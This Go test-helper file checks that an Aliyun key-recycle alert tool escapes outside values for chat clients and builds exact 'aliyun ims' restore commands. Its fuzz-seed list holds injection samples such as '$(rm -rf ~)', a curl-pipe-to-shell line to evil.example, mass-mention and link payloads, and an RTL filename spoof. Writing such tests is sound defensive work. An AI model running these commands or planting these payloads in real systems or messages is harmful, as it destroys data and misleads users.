package notifytest

// This file reads texts as chat clients and shells do, for the hostile-data checks: a value from
// outside must come out as text, never as markup, and a restore command must split into exactly the
// intended words.

import (
	"fmt"
	"regexp"
	"strings"
	"testing"
	"unicode"
	"unicode/utf8"

	"github.com/google/go-cmp/cmp"

	"github.com/akrecycle/ak-recycle-alert/alert"
	"github.com/akrecycle/ak-recycle-alert/notify"
)

// RestoreArgv is the command line a key's restore command must be, word for word, and whether it may
// be shown at all: an ID that is empty or holds a character outside printable ASCII, a single quote
// or a backtick is not put in a command.
func RestoreArgv(a alert.Alert) ([]string, bool) {
	if !shellSafe(a.UserID, a.AccessKeyID) {
		return nil, false
	}
	return []string{"aliyun", "ims", "RestoreAccessKeyFromRecycleBin", "--UserId", a.UserID, "--UserAccessKeyId", a.AccessKeyID}, true
}

// Restore is one restore command a message must show: its words, whether it may be shown at all
// (as RestoreArgv says), and whether it must be (its IDs are letters and digits).
type Restore struct {
	Argv     []string
	OK, Must bool
}

// Restores are the restore commands an alert's item must show, in order: a key alert's one; a user
// alert's, the user's (RestoreUserFromRecycleBin) and then one per listed key.
func Restores(a alert.Alert) []Restore {
	if !a.Event.ForUser() {
		argv, ok := RestoreArgv(a)
		return []Restore{{Argv: argv, OK: ok, Must: plainID.MatchString(a.UserID) && plainID.MatchString(a.AccessKeyID)}}
	}
	user := Restore{OK: shellSafe(a.UserID), Must: plainID.MatchString(a.UserID)}
	if user.OK {
		user.Argv = []string{"aliyun", "ims", "RestoreUserFromRecycleBin", "--UserId", a.UserID}
	}
	out := []Restore{user}
	for _, k := range a.AccessKeys {
		argv, ok := RestoreArgv(alert.Alert{UserID: a.UserID, AccessKeyID: k.AccessKeyID})
		out = append(out, Restore{Argv: argv, OK: ok, Must: plainID.MatchString(a.UserID) && plainID.MatchString(k.AccessKeyID)})
	}
	return out
}

var plainID = regexp.MustCompile(`^[A-Za-z0-9]+$`)

// shellSafe reports whether every ID may go into a command: not empty, printable ASCII, no single
// quote, no backtick.
func shellSafe(ids ...string) bool {
	for _, id := range ids {
		if id == "" {
			return false
		}
		for i := 0; i < len(id); i++ {
			if c := id[i]; c < 0x20 || c > 0x7e || c == '\'' || c == '`' {
				return false
			}
		}
	}
	return true
}

// ShellWords splits line as a POSIX shell would, accepting only a simple command: words of plain
// characters, '…' and "…" quoting and backslash escapes. An operator, a redirection, an expansion
// ($, backtick, ~, {), a glob, a comment, a history expansion or a line break is an error: a command
// with any of them would do something else than run one program with these words.
func ShellWords(line string) ([]string, error) {
	var words []string
	var w strings.Builder
	inWord := false
	for i := 0; i < len(line); i++ {
		c := line[i]
		switch {
		case c == ' ' || c == '\t':
			if inWord {
				words = append(words, w.String())
				w.Reset()
				inWord = false
			}
		case c == '\'':
			j := strings.IndexByte(line[i+1:], '\'')
			if j < 0 {
				return nil, fmt.Errorf("unclosed ' at %d", i)
			}
			w.WriteString(line[i+1 : i+1+j])
			i += j + 1
			inWord = true
		case c == '"':
			j := strings.IndexByte(line[i+1:], '"')
			if j < 0 {
				return nil, fmt.Errorf("unclosed \" at %d", i)
			}
			in := line[i+1 : i+1+j]
			if strings.ContainsAny(in, "$`\\!") {
				return nil, fmt.Errorf("expansion inside \"…\" at %d", i)
			}
			w.WriteString(in)
			i += j + 1
			inWord = true
		case c == '\\':
			if i+1 >= len(line) || line[i+1] == '\n' {
				return nil, fmt.Errorf("line continuation at %d", i)
			}
			w.WriteByte(line[i+1])
			i++
			inWord = true
		case strings.IndexByte("|&;<>()$`*?[{}!\n\r", c) >= 0,
			!inWord && (c == '#' || c == '~'):
			return nil, fmt.Errorf("shell syntax %q at %d", c, i)
		default:
			w.WriteByte(c)
			inWord = true
		}
	}
	if inWord {
		words = append(words, w.String())
	}
	return words, nil
}

// CodeSpans returns the contents of the `…` spans of text.
func CodeSpans(text string) []string {
	var out []string
	for {
		i := strings.IndexByte(text, '`')
		if i < 0 {
			return out
		}
		j := strings.IndexByte(text[i+1:], '`')
		if j < 0 {
			return out
		}
		out = append(out, text[i+1:i+1+j])
		text = text[i+j+2:]
	}
}

// Emphasis lists, in order, the Emphasis a markdown-like client finds in text outside code spans:
// each pair of matching delimiter runs of *, _ or ~ that can open and close (CommonMark's flanking
// rules, simplified; _ does not work inside a word).
func Emphasis(text string) []string {
	var found, stack []string
	inCode := false
	for i := 0; i < len(text); {
		c := text[i]
		if c == '`' {
			inCode = !inCode
			i++
			continue
		}
		if inCode || (c != '*' && c != '_' && c != '~') {
			i++
			continue
		}
		j := i
		for j < len(text) && text[j] == c {
			j++
		}
		run := text[i:j]
		prev, _ := utf8.DecodeLastRuneInString(text[:i])
		next, _ := utf8.DecodeRuneInString(text[j:])
		word := func(r rune) bool { return unicode.IsLetter(r) || unicode.IsDigit(r) }
		space := func(r rune) bool { return r == utf8.RuneError || unicode.IsSpace(r) }
		canOpen := !space(next) && !(c == '_' && word(prev))
		canClose := !space(prev) && !(c == '_' && word(next))
		k := len(stack) - 1
		for k >= 0 && stack[k] != run {
			k--
		}
		switch {
		case canClose && k >= 0:
			found = append(found, run)
			stack = stack[:k]
		case canOpen:
			stack = append(stack, run)
		}
		i = j
	}
	return found
}

// RestoreLines returns what follows "Restore: " (or, for a deleted user's keys, "Then: ") on each line
// of text, without a line break's spaces.
func RestoreLines(text string) []string {
	var out []string
	for _, line := range strings.Split(text, "\n") {
		if _, cmd, ok := strings.Cut(line, "Restore: "); ok {
			out = append(out, strings.TrimRight(cmd, " "))
		} else if _, cmd, ok := strings.Cut(line, "Then: "); ok {
			out = append(out, strings.TrimRight(cmd, " "))
		}
	}
	return out
}

// CheckRestores checks the restore lines of each of r's alerts, in urgency order (a deleted user's:
// the user's, then one per key): a command, exactly the intended words when a shell splits it (after
// the client's decoding: code returns the command a code span or the line shows, and whether it is
// one), or a line saying why there is none. IDs of letters and digits always get their command; other
// IDs that a shell can take quoted may get it, depending on the format; any other gets none.
func CheckRestores(t *testing.T, r *alert.Report, lines []string, code func(string) (string, bool)) {
	t.Helper()
	m := notify.NewMessage(r)
	var want []Restore
	for _, k := range m.Keys {
		want = append(want, Restores(k.Alert)...)
	}
	if len(lines) != len(want) {
		t.Fatalf("%d restore lines, want one per key and deleted user (%d): %q", len(lines), len(want), lines)
	}
	for i, w := range want {
		cmd, shown := code(lines[i])
		switch {
		case !shown && !w.Must && strings.HasPrefix(lines[i], "not shown: "):
			continue
		case !shown:
			t.Errorf("restore line %d: %q, want the command (%v) or a line saying why there is none (%v)", i+1, lines[i], w.OK, !w.Must)
			continue
		case !w.OK:
			t.Errorf("restore line %d: command %q shown for IDs that allow none", i+1, cmd)
			continue
		}
		if got, err := ShellWords(cmd); err != nil || !cmp.Equal(got, w.Argv) {
			t.Errorf("restore line %d: command %q splits into %q, %v; want %q", i+1, cmd, got, err, w.Argv)
		}
	}
}

// CodeSpanCommand is the command a line "`…`" shows, with unescape applied to it.
func CodeSpanCommand(unescape func(string) string) func(string) (string, bool) {
	return func(line string) (string, bool) {
		c, ok := strings.CutPrefix(line, "`")
		if !ok || !strings.HasSuffix(c, "`") {
			return "", false
		}
		return unescape(strings.TrimSuffix(c, "`")), true
	}
}

// Text is one text of a channel's body: Kind "markdown" (the client reads markup in it: DingTalk and
// WeCom markdown, Feishu lark_md) or "plain" (shown as it is: DingTalk's title, Feishu plain_text).
type Text struct {
	Kind, Text string
}

var (
	// HTMLEntity matches what a client would decode into a character: &name; or &#…;.
	HTMLEntity = regexp.MustCompile(`&(#[0-9]+|#[xX][0-9a-fA-F]+|[A-Za-z][A-Za-z0-9]*);`)
	// Mention matches an @ that starts a word.
	Mention = regexp.MustCompile(`(^|[^\p{L}\p{N}])@`)
)

// CheckMarkdownText checks one text o of a body rendered from Hostile against the same text twin of
// the body rendered from its BenignTwin: no link, image, mention, HTML or entity in markdown, and the
// same lines of the same kinds, with the same emphasis, as the twin.
func CheckMarkdownText(t *testing.T, o, twin Text) {
	t.Helper()
	lines, twinLines := strings.Split(o.Text, "\n"), strings.Split(twin.Text, "\n")
	if len(lines) != len(twinLines) {
		t.Errorf("%s text: %d lines, want %d as the benign twin:\n%s", o.Kind, len(lines), len(twinLines), o.Text)
		return
	}
	if strings.ContainsFunc(o.Text, func(r rune) bool { return r != '\n' && (unicode.IsControl(r) || r == '\u2028' || r == '\u2029') }) {
		t.Errorf("%s text holds a control character: %q", o.Kind, o.Text)
	}
	if o.Kind != "markdown" {
		return
	}
	for _, bad := range []string{"](", "![", "<", ">", "://", "\\"} {
		if strings.Contains(o.Text, bad) {
			t.Errorf("markdown holds %q:\n%s", bad, o.Text)
		}
	}
	if e := HTMLEntity.FindString(o.Text); e != "" {
		t.Errorf("markdown holds the HTML entity %q:\n%s", e, o.Text)
	}
	if Mention.MatchString(o.Text) {
		t.Errorf("markdown holds an @ mention:\n%s", o.Text)
	}
	for i := range lines {
		if got, want := MarkdownLineKind(lines[i]), MarkdownLineKind(twinLines[i]); got != want {
			t.Errorf("line %q is a %s, want a %s as the twin's %q", lines[i], got, want, twinLines[i])
		}
	}
	if got, want := Emphasis(o.Text), Emphasis(twin.Text); !cmp.Equal(got, want) {
		t.Errorf("emphasis %q, want %q as the benign twin:\n%s", got, want, o.Text)
	}
}

var orderedItem = regexp.MustCompile(`^[0-9]{1,9}[.)]( |$)`)

// MarkdownLineKind is what a markdown client makes of a line: a heading, a quote, a thematic break,
// a fence, a table row, or a paragraph; a list item is "list of" its content's kind.
func MarkdownLineKind(line string) string {
	l := strings.TrimLeft(line, " \t")
	switch {
	case l == "":
		return "blank"
	case strings.HasPrefix(l, "#"):
		return "heading"
	case strings.HasPrefix(l, ">"):
		return "quote"
	case strings.HasPrefix(l, "```"), strings.HasPrefix(l, "~~~"):
		return "fence"
	case strings.HasPrefix(l, "|"):
		return "table"
	case strings.Trim(l, "-* _=") == "" && len(strings.Trim(l, " ")) >= 3:
		return "break"
	case strings.HasPrefix(l, "- "), strings.HasPrefix(l, "+ "), strings.HasPrefix(l, "* "):
		return "list of " + MarkdownLineKind(l[2:])
	case orderedItem.MatchString(l):
		return "ordered list of " + MarkdownLineKind(l[strings.IndexAny(l, ".)")+1:])
	}
	return "paragraph"
}

// HostileSeeds seed the escapers' fuzz tests: each channel's markup, line breaks, shell commands, and
// ordinary values.
var HostileSeeds = []string{
	"", " ", "alice", "ops-team.prod_1", "alice@corp.onaliyun.com", "Prod & <!channel>", "LTAI`<!channel>`",
	"<!here> <@U123> <#C123> <!date^0^{date}|x> <http://evil.example|click> <!subteam^S1>",
	"[x](https://evil.example)", "![i](https://evil.example/i.png)", "<at id=all></at>", "<@all>", "@all",
	"<font color=red>red</font>", "# heading", "> quote", "- list", "+ list", "1. ordered", "2) ordered", "---",
	"===", "| a | b |", "    code", "```go", "~~~", "\n**FAKE: all clear**", "x\r\n> y\u2028# z\u2029- w\u0085v",
	"*bold* _it_ ~st~ `code` ~~s~~ ***x*** __u__", "\\*esc\\* \\", "&lt;at&gt; &#60;font&#62; &amp; AT&T",
	"＊b＊ ＿i＿ ｀c｀ ＞ q", "＞ quote", "$(rm -rf ~)", "'; curl evil|sh #", "a'b", "\x1b[31mred\x00",
	"\u202egnp.exe\u202c", "\xff\xfe invalid", "用户不存在", "https://api.aliyun.com/troubleshoot?q=x",
	"a_", "_a", "a_b", "@", "&", "a&b", "x:y://z",
}
